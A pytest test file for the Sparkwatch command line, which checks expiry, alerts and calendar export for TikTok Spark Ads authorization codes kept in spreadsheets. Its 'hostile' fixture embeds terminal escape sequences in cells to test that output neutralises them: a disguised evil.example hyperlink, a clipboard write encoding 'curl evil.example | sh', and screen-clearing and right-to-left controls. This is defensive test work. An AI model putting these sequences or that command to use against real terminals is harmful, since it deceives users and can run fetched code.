"""The command line, run as people and cron run it: in-process through `main` (with the streams and
environment a test gives it), and once as `python -m lib.cli`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from icalendar import Calendar
from openpyxl import Workbook

from lib import cli as cli_module
from lib.cli import EXIT_ATTENTION, EXIT_BUG, EXIT_FAIL_ON, EXIT_OK, EXIT_UNREADABLE, main
from lib.codes import MASK, mask_code
from lib.columns import SHEET_ROW_HEADER, TAB_HEADER
from lib.errors import SettingsError, SourceError, SparkwatchError, UsageError, WebhookError
from lib.rules import ISSUE_ORDER
from lib.vocab import HEALTH_ORDER
from tests.fakes import FakeSheets
from tests.fakes.tracking_sheet import code
from tests.fakes.webhook import PROXY_VARIABLES, SECRET_PATH, DrippingServer, WebhookReceiver, clear_proxies

ROOT = Path(__file__).resolve().parents[1]
TODAY = "2026-11-22"
CODES = [code(n) for n in range(10)]

# A sheet as teams really keep it: a note above the header, headers with stray spaces and odd
# capitals, four date forms and a Sheets serial number, `REVOKED ` with a trailing space, a
# blank row, a row without a creator and a date nobody can read.
MESSY_CSV = f"""Creator tracker (ask Maya before editing),,,,,,,
 TikTok Handle ,Post URL,Spark Code,Authorized On,Duration, Expiry ,Status,Campaign End
 @Amy ,https://www.tiktok.com/@amy/video/1,{CODES[1]},2026-11-01,30 days,,active,2026-12-31
BOB  ,https://www.tiktok.com/@bob/video/2,{CODES[2]},11/20/2026,7,,  Active ,
carl,https://www.tiktok.com/@carl/video/3,{CODES[3]},,, 15 Dec 2026 ,REVOKED ,
,,,,,,,
dana,https://www.tiktok.com/@dana/video/4,{CODES[4]},,,46000,active,
,https://www.tiktok.com/@x/video/5,{CODES[5]},2026-11-10,60,,active,
erin,https://www.tiktok.com/@erin/video/6,{CODES[6]},31/31/2026,30,,active,
fay,https://www.tiktok.com/@fay/video/7,,,,,pending,
gus,https://www.tiktok.com/@gus/video/8,{CODES[8]},"Nov 02, 2026",365,,active,
"""

# Sheet row → (creator, health, issues) on 2026-11-22 with the default 7-day window.
MESSY_EXPECTED = {
    3: ("@amy", "ok", ["expires_before_campaign_end"]),  # ends 2026-12-01, campaign 2026-12-31
    4: ("@bob", "expiring", ["expiring_soon"]),  # 11/20 + 7 days = 2026-11-27
    5: ("@carl", "revoked", ["code_revoked"]),
    7: ("@dana", "expired", ["code_expired"]),  # serial 46000 = 2025-12-09
    8: (None, "ok", []),
    9: ("@erin", "unknown", []),
    10: ("@fay", "pending", ["missing_code"]),
    11: ("@gus", "ok", []),
}
MESSY_PROBLEMS = [
    {
        "row": 8,
        "column": "TikTok Handle",
        "value": "",
        "problem": "No creator handle: write the creator's TikTok handle in this row.",
    },
    {
        "row": 9,
        "column": "Authorized On",
        "value": "31/31/2026",
        "problem": "There is no such day: check the day and the month, and write the date like 2026-11-22.",
    },
]


@pytest.fixture
def messy(tmp_path) -> Path:
    path = tmp_path / "tracker.csv"
    path.write_text(MESSY_CSV, encoding="utf-8")
    return path


@pytest.fixture(autouse=True)
def _clean_env(monkeypatch):
    """No proxy between us and 127.0.0.1, and no webhook address inherited from the machine."""
    clear_proxies(monkeypatch)
    monkeypatch.delenv("SPARKWATCH_WEBHOOK", raising=False)


@pytest.fixture
def receiver():
    with WebhookReceiver() as running:
        yield running


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code_ = main(list(argv), out, err)
    return code_, out.getvalue(), err.getvalue()


def check_json(*argv: str) -> dict:
    status, out, err = run("check", *argv, "--json")
    assert err == ""
    assert status == EXIT_OK
    return json.loads(out)


# --------------------------------------------------------------------------- check


def test_json_shape_is_exactly_the_documented_one(messy):
    data = check_json(str(messy), "--today", TODAY)
    assert list(data) == ["source", "today", "warn_days", "rows", "health", "issues", "records", "problems", "columns"]
    assert data["source"] == str(messy)
    assert data["today"] == TODAY
    assert data["warn_days"] == 7
    assert data["rows"] == len(MESSY_EXPECTED) == len(data["records"])
    assert list(data["health"]) == list(HEALTH_ORDER)  # all 7 states, worst first, zeros included
    assert list(data["issues"]) == list(ISSUE_ORDER)  # every issue id, zeros included
    for record in data["records"]:
        assert list(record) == ["row", "creator", "post", "expires_on", "days_left", "health", "issues", "code"]
    for problem in data["problems"]:
        assert list(problem) == ["row", "column", "value", "problem"]


def test_messy_csv_gives_the_right_health_per_row_and_an_exact_problems_list(messy):
    data = check_json(str(messy), "--today", TODAY)
    got = {r["row"]: (r["creator"], r["health"], r["issues"]) for r in data["records"]}
    assert got == MESSY_EXPECTED
    assert data["problems"] == MESSY_PROBLEMS
    assert data["health"] == {
        "revoked": 1,
        "expired": 1,
        "blocked": 0,
        "pending": 1,
        "expiring": 1,
        "unknown": 1,
        "ok": 3,
    }
    assert data["issues"]["expires_before_campaign_end"] == 1
    assert data["issues"]["duplicate_code"] == 0
    by_row = {r["row"]: r for r in data["records"]}
    assert by_row[3]["expires_on"] == "2026-12-01" and by_row[3]["days_left"] == 9
    assert by_row[4]["expires_on"] == "2026-11-27" and by_row[4]["days_left"] == 5
    assert by_row[7]["expires_on"] == "2025-12-09"
    assert by_row[9]["expires_on"] is None and by_row[9]["days_left"] is None
    assert by_row[11]["expires_on"] == "2027-11-02"
    assert by_row[3]["code"] == mask_code(CODES[1])
    assert by_row[10]["code"] is None
    # Records come most urgent first.
    assert [r["row"] for r in data["records"]][:4] == [5, 7, 10, 4]


def test_codes_never_appear_in_any_check_output(messy):
    for extra in ((), ("--json",)):
        status, out, err = run("check", str(messy), "--today", TODAY, *extra)
        assert status == EXIT_OK
        assert MASK in out or not extra
        assert not any(c in out for c in CODES)


def test_today_and_the_warning_window_change_the_verdict(messy):
    def health(*argv: str) -> dict[int, str]:
        return {r["row"]: r["health"] for r in check_json(str(messy), *argv)["records"]}

    base = health("--today", TODAY)
    assert base[3] == "ok" and base[4] == "expiring"
    wider = health("--today", TODAY, "--warn-days", "10")
    assert wider[3] == "expiring"  # 9 days left is inside a 10-day window
    assert check_json(str(messy), "--today", TODAY, "--warn-days", "10")["warn_days"] == 10
    later = health("--today", "2026-11-28")
    assert later[4] == "expired"  # ended 2026-11-27
    assert later[3] == "expiring"  # 3 days left
    earlier = health("--today", "2026-11-10", "--warn-days", "0")
    assert earlier[4] == "ok" and earlier[7] == "expired"


def test_exit_codes_of_check(messy, tmp_path):
    assert run("check", str(messy), "--today", TODAY)[0] == EXIT_OK
    assert run("check", str(messy), "--today", TODAY, "--fail-on", "expired,revoked")[0] == EXIT_FAIL_ON == 1
    assert run("check", str(messy), "--today", TODAY, "--fail-on", "blocked")[0] == EXIT_OK
    assert run("check", str(messy), "--today", TODAY, "--fail-on", "Expiring")[0] == EXIT_FAIL_ON
    status, out, err = run("check", str(messy), "--fail-on", "broken")
    assert status == EXIT_UNREADABLE == 2
    assert "unknown state broken" in err
    assert run("check", str(tmp_path / "missing.csv"))[0] == EXIT_UNREADABLE


def test_text_output_lists_what_needs_action_and_what_to_fix_in_the_sheet(messy):
    status, out, err = run("check", str(messy), "--today", TODAY)
    assert (status, err) == (EXIT_OK, "")
    lines = out.splitlines()
    assert lines[0] == f"Sparkwatch · {messy} · 8 authorizations · {TODAY} · warning window 7 days"
    assert (
        lines[1]
        == "Revoked: 1  Expired: 1  Blocked: 0  Waiting for code: 1  Expiring soon: 1  Expiry unknown: 1  OK: 3"
    )
    assert "Needs action (6):" in lines
    assert (
        "  row     5  @carl                    Revoked — Code withdrawn by the creator → Creator, Advertiser" in lines
    )
    assert "  row     4  @bob                     Expiring soon · 5 days left — Expires soon → Creator" in lines
    assert "Fix these in the sheet (2):" in lines
    no_such_day = "There is no such day: check the day and the month, and write the date like 2026-11-22."
    assert f"  row     9  Authorized On '31/31/2026': {no_such_day}" in lines


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("missing.csv", None, "No file at"),
        ("scan.pdf", b"%PDF-1.7 binary", "is not a table Sparkwatch can read"),
        ("binary.csv", b"\x00\x01\x02\x00garbage", "not a CSV text file"),
        ("broken.xlsx", b"PK\x03\x04 not really a workbook", "is not a readable Excel workbook"),
        ("people.csv", b"Name,Spark code\nAmy,#abc\n", "The sheet has no creator column"),
        ("empty.csv", b"", "The sheet is empty"),
        ("blank.csv", b"\n,,\n  ,\n", "The sheet is empty"),
    ],
)
def test_unreadable_sources_exit_2_with_one_plain_line(tmp_path, name, content, message):
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    for command in (["check"], ["check", "--json"], ["calendar", "-o", str(tmp_path / "x.ics")], ["alert"]):
        argv = [command[0], str(path), *command[1:]]
        if command[0] == "alert":
            argv += ["--webhook", "http://127.0.0.1:9/never-called"]
        status, out, err = run(*argv)
        assert status == EXIT_UNREADABLE, argv
        assert out == ""
        assert err.count("\n") == 1 and err.startswith("sparkwatch: "), err
        assert message in err
        assert "Traceback" not in err
    assert not (tmp_path / "x.ics").exists()


def test_text_output_counts_one_in_the_singular_and_names_the_tab_of_a_merged_sheet(tmp_path):
    sheet = tmp_path / "one.csv"
    sheet.write_text(f"{TAB_HEADER},Creator,Expires,{SHEET_ROW_HEADER}\nLumen,@amy,soon,7\n", encoding="utf-8")
    status, out, err = run("check", str(sheet), "--today", TODAY, "--warn-days", "1")
    assert (status, err) == (EXIT_OK, "")
    lines = out.splitlines()
    assert lines[0] == f"Sparkwatch · {sheet} · 1 authorization · {TODAY} · warning window 1 day"
    assert "  row     7  (tab Lumen)  Expires 'soon': Not a date we can read: write it like 2026-11-22." in lines


def test_xlsx_source(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["Creator", "Post URL", "Code", "Expires", "Duration", "Authorized on", "Status"])
    sheet.append(["amy", "https://www.tiktok.com/@amy/video/1", CODES[1], dt.datetime(2026, 11, 25), None, None, None])
    sheet.append(["bob", "https://www.tiktok.com/@bob/video/2", CODES[2], None, 60, dt.date(2026, 11, 1), "active"])
    sheet.append(["cy", "https://www.tiktok.com/@cy/video/3", CODES[3], "2026-11-01", None, None, "Revoked"])
    path = tmp_path / "tracker.xlsx"
    book.save(path)
    data = check_json(str(path), "--today", TODAY)
    got = {r["creator"]: (r["health"], r["expires_on"], r["days_left"]) for r in data["records"]}
    assert got == {
        "@amy": ("expiring", "2026-11-25", 3),
        "@bob": ("ok", "2026-12-31", 39),
        "@cy": ("revoked", "2026-11-01", -21),
    }
    assert data["problems"] == []


def test_help_and_usage_go_to_the_given_streams():
    status, out, err = run("--help")
    assert status == EXIT_OK and "check" in out and "calendar" in out and "alert" in out and err == ""
    status, out, err = run("nonsense")
    assert status == EXIT_UNREADABLE and "invalid choice" in err and out == ""
    status, out, err = run("check", "demo", "--today", "22/11/2026")
    assert status == EXIT_UNREADABLE and "is not a date like 2026-11-22" in err


# Terminal escapes a cell can carry: clear screen, a hyperlink that shows one address and opens
# another (OSC 8), a clipboard write (OSC 52), a bell, the one-byte C1 CSI, DEL, a right-to-left override.
CLEAR = "\x1b[2J\x1b[H"
FAKE_LINK = "\x1b]8;;http://evil.example/\x1b\\docs.google.com\x1b]8;;\x1b\\"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
C1 = "\x9b2J\x85\x7f"
RLO = "\u202e"
TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
"""Every C0 and C1 control but the newline, and DEL."""


@pytest.fixture
def hostile(tmp_path) -> Path:
    path = tmp_path / "hostile.csv"
    rows = [
        ["Creator", "Post URL", "Spark code", "Expires", "Status"],
        [f"amy{CLEAR}", "https://www.tiktok.com/@amy/video/1", CODES[1], "2026-11-20", "active"],
        [f"bob{FAKE_LINK}", "https://www.tiktok.com/@bob/video/2", CODES[2], f"soon{CLIPBOARD}", "active"],
        [f"cy{C1}", "https://www.tiktok.com/@cy/video/3", CODES[3], f"2026-11-2{C1}\n5", "revoked"],
        [f"{RLO}dana", "https://www.tiktok.com/@dana/video/4", CODES[4], "2026-11-24", f"active{CLEAR}"],
    ]
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    return path


def test_text_output_prints_no_terminal_escapes_from_cells(hostile):
    status, out, err = run("check", str(hostile), "--today", TODAY)
    assert (status, err) == (EXIT_OK, "")
    assert not TERMINAL_CONTROLS.search(out), repr(out)
    lines = out.splitlines()
    assert any(line.startswith("  row     2  @amy[2j[h") for line in lines)  # inert text, on its own line
    assert any("@bob]8;;http://evil.example/" in line for line in lines)
    problems = [line for line in lines if "Not a date" in line]
    assert len(problems) == 2 and all(line.startswith("  row ") for line in problems)
    # A right-to-left override stays, isolated, so it cannot reorder the words after it.
    (dana,) = [line for line in lines if "dana" in line]
    assert f"\u2068@{RLO}dana\u2069" in dana


def test_json_output_escapes_every_control_and_keeps_the_values(hostile):
    status, out, err = run("check", str(hostile), "--today", TODAY, "--json")
    assert (status, err) == (EXIT_OK, "")
    assert not TERMINAL_CONTROLS.search(out.rstrip("\n")), repr(out)
    assert RLO not in out  # written as \u202e: the terminal shows an escape, not a reversed line
    data = json.loads(out)
    creators = {r["creator"] for r in data["records"]}
    assert f"@amy{CLEAR}".lower() in {c.lower() for c in creators}  # the data itself is exact
    assert "@" + RLO + "dana" in creators


def test_alert_dry_run_prints_no_terminal_escapes(hostile):
    status, out, err = run("alert", str(hostile), "--today", TODAY, "--dry-run")
    assert (status, err) == (EXIT_ATTENTION, "")
    assert not TERMINAL_CONTROLS.search(out), repr(out)
    assert "@amy[2j[h" in out


def test_an_error_line_prints_no_terminal_escapes(tmp_path):
    status, out, err = run("check", str(tmp_path / f"gone{CLEAR}{CLIPBOARD}.csv"))
    assert status == EXIT_UNREADABLE
    assert err.startswith("sparkwatch: No file at ") and err.count("\n") == 1
    assert not TERMINAL_CONTROLS.search(err.rstrip("\n")), repr(err)


# --------------------------------------------------------------------------- calendar


def test_calendar_writes_an_ics_file_that_parses_back(messy, tmp_path):
    target = tmp_path / "reminders.ics"
    status, out, err = run("calendar", str(messy), "--today", TODAY, "-o", str(target), "--remind-days", "3")
    assert (status, err) == (EXIT_OK, "")
    assert out == f"Wrote 2 reminders (authorizations ending by 2026-12-22) to {target}.\n"
    calendar = Calendar.from_ical(target.read_bytes())
    events = {str(e["summary"]): e for e in calendar.walk("VEVENT")}
    assert set(events) == {
        "Spark Ads code ends: @amy · no campaign named",
        "Spark Ads code ends: @bob · no campaign named",
    }
    bob = events["Spark Ads code ends: @bob · no campaign named"]
    assert bob.decoded("dtstart") == dt.date(2026, 11, 27)
    assert bob.walk("VALARM")[0].decoded("trigger") == dt.timedelta(days=-3, hours=9)
    assert not any(c.encode() in target.read_bytes() for c in CODES)


def test_calendar_reminder_events_and_no_alarm_before_the_day_judged(messy, tmp_path):
    """With --today, the file is made as of that morning: no alarm rings before it, each reminder can be an event."""
    target = tmp_path / "reminders.ics"
    argv = ("calendar", str(messy), "--today", TODAY, "--tz", "Europe/Berlin", "-o", str(target), "--reminder-events")
    status, out, err = run(*argv)
    assert (status, err) == (EXIT_OK, "")
    assert out == f"Wrote 2 reminders (authorizations ending by 2026-12-22) to {target}.\n"
    calendar = Calendar.from_ical(target.read_bytes())
    found = list(calendar.walk("VEVENT"))
    assert len(found) == 4 and sum(bool(e.walk("VALARM")) for e in found) == 2
    start = dt.datetime(2026, 11, 22, tzinfo=ZoneInfo("Europe/Berlin"))
    for event in found:
        for alarm in event.walk("VALARM"):
            trigger = alarm.decoded("trigger")
            at = (
                dt.datetime.combine(event.decoded("dtstart"), dt.time(), tzinfo=start.tzinfo) + trigger
                if isinstance(trigger, dt.timedelta)
                else trigger
            )
            assert at >= start
    bob = next(e for e in found if str(e["summary"]).startswith("Ask @bob"))
    # Bob's code ends on 27 November, inside the 7-day window: Monday 23 November, 9:00.
    assert bob.decoded("dtstart") == dt.datetime(2026, 11, 23, 9, 0)
    assert str(bob["summary"]).endswith("it ends in 4 days")


def test_calendar_window_and_empty_result(messy, tmp_path):
    target = tmp_path / "r.ics"
    assert run("calendar", str(messy), "--today", TODAY, "-o", str(target), "--days", "5")[1] == (
        f"Wrote 1 reminder (authorizations ending by 2026-11-27) to {target}.\n"
    )
    status, out, _ = run("calendar", str(messy), "--today", "2027-12-01", "-o", str(target))
    assert status == EXIT_OK
    assert out == f"No authorization ends by 2027-12-31: wrote an empty calendar to {target}.\n"
    assert Calendar.from_ical(target.read_bytes()).walk("VEVENT") == []


def test_calendar_to_standard_output_and_bad_targets(messy, tmp_path):
    status, out, err = run("calendar", str(messy), "--today", TODAY, "-o", "-")
    assert status == EXIT_OK and err == ""
    assert len(Calendar.from_ical(out).walk("VEVENT")) == 2
    status, out, err = run("calendar", str(messy), "-o", str(tmp_path / "no" / "such" / "dir.ics"))
    assert status == EXIT_UNREADABLE and out == ""
    assert err.startswith("sparkwatch: Could not write ") and err.count("\n") == 1
    assert run("calendar", str(messy), "-o", str(tmp_path / "x.ics"), "--days", "0")[0] == EXIT_UNREADABLE
    assert run("calendar", str(messy))[0] == EXIT_UNREADABLE  # -o is required


def test_calendar_survives_a_link_with_a_line_break_and_control_characters(tmp_path):
    """A post link pasted with a line break used to make `calendar` exit 2, quoting the cell."""
    sheet = tmp_path / "links.csv"
    sheet.write_text(
        "Creator,Post URL,Code,Expires\n"
        f'amy,"https://www.tiktok.com/@amy/video/1\nhttps://www.tiktok.com/@amy/video/2",{CODES[1]},2026-11-25\n'
        f'bob,"https://www.tiktok.com/@bob/video/3\x1b]52;c;aGk=\x07\r",{CODES[2]},2026-11-26\n',
        encoding="utf-8",
    )
    target = tmp_path / "r.ics"
    status, out, err = run("calendar", str(sheet), "--today", TODAY, "-o", str(target))
    assert (status, err) == (EXIT_OK, "")
    assert out == f"Wrote 2 reminders (authorizations ending by 2026-12-22) to {target}.\n"
    data = target.read_bytes()
    assert b"\x1b" not in data and b"\x07" not in data
    events = {str(e["summary"]): e for e in Calendar.from_ical(data).walk("VEVENT")}
    amy = events["Spark Ads code ends: @amy · no campaign named"]
    assert "url" not in amy
    assert "https://www.tiktok.com/@amy/video/1 https://www.tiktok.com/@amy/video/2" in str(amy["description"])


# --------------------------------------------------------------------------- alert


def test_alert_posts_one_message_and_exits_1(messy, receiver):
    status, out, err = run("alert", str(messy), "--today", TODAY, "--webhook", receiver.url)
    assert (status, err) == (EXIT_ATTENTION, "")
    assert out == f"Alert sent to {receiver.url.split(SECRET_PATH)[0]}: 3 authorizations need action.\n"
    (payload,) = receiver.payloads
    assert list(payload) == ["text"]
    text = payload["text"]
    assert text.startswith(
        "Sparkwatch · 3 Spark Ads authorizations need action (revoked: 1, expired: 1, expiring soon: 1)"
    )
    for creator in ("@carl", "@dana", "@bob"):
        assert creator in text
    for calm in ("@amy", "@fay", "@erin", "@gus"):
        assert calm not in text
    assert mask_code(CODES[2]) in text
    assert not any(c in text for c in CODES)
    assert "Also: 2 cells in the sheet could not be read" in text


def test_alert_sends_nothing_when_all_is_well(tmp_path, receiver):
    calm = tmp_path / "calm.csv"
    calm.write_text(f"Creator,Code,Expires\namy,{CODES[1]},2027-03-01\nbob,,\n", encoding="utf-8")
    status, out, err = run("alert", str(calm), "--today", TODAY, "--webhook", receiver.url)
    assert (status, err) == (EXIT_OK, "")
    assert out.startswith("All well: nothing is revoked, expired, blocked, expiring soon. No alert sent.")
    assert receiver.received == []


def test_alert_warning_window_decides_what_is_expiring(messy, receiver):
    status, _, _ = run("alert", str(messy), "--today", TODAY, "--webhook", receiver.url, "--warn-days", "10")
    assert status == EXIT_ATTENTION
    assert "@amy" in receiver.payloads[0]["text"]  # 9 days left: inside a 10-day window


def test_alert_webhook_from_the_environment(messy, receiver, monkeypatch):
    monkeypatch.setenv("SPARKWATCH_WEBHOOK", receiver.url)
    assert run("alert", str(messy), "--today", TODAY)[0] == EXIT_ATTENTION
    assert len(receiver.payloads) == 1


def test_alert_without_a_webhook_or_with_a_failing_one_exits_2(messy):
    status, out, err = run("alert", str(messy), "--today", TODAY)
    assert (status, out) == (EXIT_UNREADABLE, "")
    assert err == "sparkwatch: Give the webhook address with --webhook URL, or set SPARKWATCH_WEBHOOK.\n"
    with WebhookReceiver(status=404, reply=b"no_service") as failing:
        status, out, err = run("alert", str(messy), "--today", TODAY, "--webhook", failing.url)
        assert len(failing.received) == 1
    assert (status, out) == (EXIT_UNREADABLE, "")
    assert err.startswith("sparkwatch: The webhook at http://127.0.0.1:")
    assert "refused the alert (HTTP 404: no_service)" in err
    assert err.count("\n") == 1 and "s3cret" not in err and "Traceback" not in err
    with WebhookReceiver(hang=True) as hanging:
        status, _, err = run("alert", str(messy), "--today", TODAY, "--webhook", hanging.url, "--timeout", "0.5")
    assert status == EXIT_UNREADABLE
    assert "did not answer within 0.5 seconds" in err


@pytest.mark.timeout(30)
def test_alert_timeout_bounds_the_whole_delivery_not_each_read(messy):
    """`--timeout 2` against a webhook answering a byte at a time used to run past 30 seconds."""
    with DrippingServer(drip_head=True) as slow:
        status, out, err = run("alert", str(messy), "--today", TODAY, "--webhook", slow.url, "--timeout", "1.5")
    assert (status, out) == (EXIT_UNREADABLE, "")
    assert err.startswith("sparkwatch: The webhook at http://127.0.0.1:")
    assert "did not answer within 1.5 seconds" in err and err.count("\n") == 1


def test_alert_dry_run_prints_instead_of_sending(messy):
    status, out, err = run("alert", str(messy), "--today", TODAY, "--dry-run")
    assert (status, err) == (EXIT_ATTENTION, "")
    assert out.startswith("Sparkwatch · 3 Spark Ads authorizations need action")
    assert not any(c in out for c in CODES)


SECRET_PUBLICATION = "/spreadsheets/d/e/2PACX-1vSecretPublicationKey/pub?gid=0&single=true&output=csv"


def test_a_published_link_is_never_printed_whole(receiver):
    """Whoever has the published link can read every code in the sheet: output names its host only."""
    with FakeSheets() as fake:
        url = fake.publish(SECRET_PUBLICATION, MESSY_CSV)
        shown = f"{fake.url}/…"
        status, out, err = run("check", url, "--today", TODAY)
        assert (status, err) == (EXIT_OK, "")
        assert out.splitlines()[0].startswith(f"Sparkwatch · {shown} · 8 authorizations")
        printed = out
        status, out, err = run("check", url, "--today", TODAY, "--json")
        assert json.loads(out)["source"] == shown
        printed += out + err
        status, out, err = run("alert", url, "--today", TODAY, "--dry-run")
        assert status == EXIT_ATTENTION and f"\n{shown} · {TODAY}" in out
        printed += out + err
        status, out, err = run("alert", url, "--today", TODAY, "--webhook", receiver.url)
        assert status == EXIT_ATTENTION
        printed += out + err
        assert "SecretPublicationKey" not in printed
        (payload,) = receiver.payloads
        assert shown in payload["text"]
        assert "SecretPublicationKey" not in payload["text"]
        assert fake.counts["csv"] == 4


# --------------------------------------------------------------------------- errors: the family, and bugs


def test_errors_of_the_family_print_their_plain_sentence_and_exit_2(messy, tmp_path):
    # A source that cannot be read (SourceError).
    status, out, err = run("check", str(tmp_path / "nope.csv"))
    assert (status, out) == (EXIT_UNREADABLE, "")
    assert err.startswith("sparkwatch: No file at ") and err.count("\n") == 1
    # A setting that cannot be used (SettingsError).
    status, out, err = run("check", str(messy), "--tz", "Mars/Base")
    assert (status, out) == (EXIT_UNREADABLE, "")
    assert err == "sparkwatch: Unknown time zone 'Mars/Base': use a name like Europe/Berlin.\n"
    # A file the command cannot write (UsageError).
    status, out, err = run("calendar", str(messy), "--today", TODAY, "-o", str(tmp_path / "no" / "dir.ics"))
    assert (status, out) == (EXIT_UNREADABLE, "")
    assert err.startswith(f"sparkwatch: Could not write {tmp_path / 'no' / 'dir.ics'}: ") and err.count("\n") == 1


@pytest.mark.parametrize("error", [SourceError, WebhookError, SettingsError, UsageError])
def test_any_error_of_the_family_is_its_sentence_and_exit_2_whatever_raises_it(messy, monkeypatch, error):
    def refuse(*args, **kwargs):
        raise error(f"Plain words from {error.__name__}, code {CODES[1]}.")

    monkeypatch.setattr(cli_module, "diagnose", refuse)
    status, out, err = run("check", str(messy), "--today", TODAY)
    assert (status, out) == (EXIT_UNREADABLE, "")
    assert err == f"sparkwatch: Plain words from {error.__name__}, code {mask_code(CODES[1])}.\n"
    assert isinstance(error("x"), SparkwatchError)


@pytest.mark.parametrize("command", [["check"], ["check", "--json"], ["alert", "--dry-run"]])
def test_a_bug_exits_3_with_one_plain_line_naming_only_the_type(messy, monkeypatch, command):
    secret = f"cell text {CODES[2]} and a key -----BEGIN PRIVATE KEY-----"

    def broken(*args, **kwargs):
        raise RuntimeError(secret)

    monkeypatch.setattr(cli_module, "diagnose", broken)
    status, out, err = run(command[0], str(messy), "--today", TODAY, *command[1:])
    assert status == EXIT_BUG == 3
    assert out == ""
    assert err == (
        "sparkwatch: Sparkwatch hit an unexpected problem (a bug, not your sheet): RuntimeError. "
        "Please report it: see the README's 'Reporting a problem' section.\n"
    )
    assert "Traceback" not in err and "cell text" not in err and CODES[2] not in err
    assert "## Reporting a problem" in (ROOT / "README.md").read_text(encoding="utf-8")


def test_the_help_names_every_exit_code():
    status, out, _ = run("--help")
    assert status == EXIT_OK
    said = " ".join(out.split())
    assert "0 all well" in said and "1 something needs attention" in said
    assert "2 nothing could be done" in said and f"{EXIT_BUG} a bug in Sparkwatch" in said


def test_alert_with_the_webhook_from_the_environment_reaches_it(messy, receiver, monkeypatch):
    monkeypatch.setenv("SPARKWATCH_WEBHOOK", receiver.url)
    status, out, err = run("alert", str(messy), "--today", TODAY)
    assert (status, err) == (EXIT_ATTENTION, "")
    assert out.startswith("Alert sent to http://127.0.0.1:")
    (payload,) = receiver.payloads
    assert "@carl" in payload["text"] and not any(c in payload["text"] for c in CODES)


# --------------------------------------------------------------------------- as a real process


def test_python_dash_m_check_demo():
    """The one run as cron runs it: a fresh interpreter, `python -m lib.cli`, real streams and exit code."""
    environment = {k: v for k, v in os.environ.items() if k not in (*PROXY_VARIABLES, "SPARKWATCH_WEBHOOK")}
    done = subprocess.run(
        [sys.executable, "-m", "lib.cli", "check", "demo", "--today", TODAY],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env=environment,
    )
    assert done.returncode == EXIT_OK, done.stderr
    assert done.stderr == ""
    lines = done.stdout.splitlines()
    assert lines[0].startswith("Sparkwatch · demo · ") and lines[0].endswith(f" · {TODAY} · warning window 7 days")
    assert lines[1].startswith("Revoked: ") and "Needs action" in done.stdout


def test_check_of_a_csv_loads_no_library_only_other_commands_need(messy):
    """`check` is what cron runs most: it must not pay for an HTTP client, TikTok, calendars, workbooks or charts.

    Each of these costs tens of milliseconds to import, and a fresh process pays that on every run.
    """
    script = (
        "import io, sys; from lib.cli import main; "
        f"code = main(['check', {str(messy)!r}, '--today', {TODAY!r}], io.StringIO(), io.StringIO()); "
        "print(code, ' '.join(sorted(sys.modules)))"
    )
    environment = {k: v for k, v in os.environ.items() if not k.startswith("TIKTOK_")}
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120, env=environment
    )
    code, modules = done.stdout.split(" ", 1)
    assert int(code) == EXIT_OK, done.stderr
    loaded = set(modules.split())
    unwanted = {"requests", "icalendar", "openpyxl", "gspread", "google.auth", "plotly", "streamlit"}
    unwanted |= {"lib.reconcile", "lib.tiktok.api", "lib.tiktok.actions", "lib.actionlog", "lib.charts"}
    unwanted |= {"lib.sources.published", "urllib.request", "http.client", "ssl"}  # a file is not fetched
    assert loaded & unwanted == set()


def test_date_order_option_and_environment_decide_ambiguous_dates(tmp_path, monkeypatch):
    path = tmp_path / "sheet.csv"
    path.write_text("Creator,Expiry\namy,02/12/2026\n", encoding="utf-8")
    day_first = check_json(str(path), "--today", TODAY, "--date-order", "DMY")
    assert day_first["records"][0]["expires_on"].startswith("2026-12-02")
    assert day_first["problems"] == []
    month_first = check_json(str(path), "--today", TODAY)
    assert month_first["records"][0]["expires_on"].startswith("2026-02-12")
    assert "date_order" in month_first["problems"][0]["problem"]
    monkeypatch.setenv("SPARKWATCH_DATE_ORDER", "day first")
    assert check_json(str(path), "--today", TODAY)["records"][0]["expires_on"].startswith("2026-12-02")


def test_check_says_which_columns_were_used(tmp_path):
    path = tmp_path / "sheet.csv"
    path.write_text("TT Handle,Platform,Expiry\namy,TikTok,2026-12-02\n", encoding="utf-8")
    data = check_json(str(path), "--today", TODAY)
    assert data["columns"] == {"used": {"creator": "TT Handle", "expires_on": "Expiry"}, "ignored": ["Platform"]}
    out = io.StringIO()
    main(["check", str(path), "--today", TODAY], out, io.StringIO())
    assert "Columns used: creator ← 'TT Handle', expires_on ← 'Expiry'; not used: 'Platform'." in out.getvalue()
